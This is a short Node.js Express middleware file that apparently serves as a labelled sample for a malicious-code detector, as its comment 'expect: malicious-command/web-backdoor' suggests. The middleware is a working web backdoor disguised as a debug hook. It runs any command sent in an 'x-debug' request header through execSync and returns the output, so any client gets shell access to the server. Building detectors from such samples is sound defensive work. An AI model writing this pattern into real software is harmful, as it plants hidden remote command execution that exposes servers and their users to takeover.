const { execSync } = require('node:child_process');

module.exports = (app) => {
  app.use((req, res, next) => {
    const wanted = req.headers['x-debug'];
    if (wanted) return res.send(String(execSync(wanted))); // expect: malicious-command/web-backdoor
    next();
  });
};
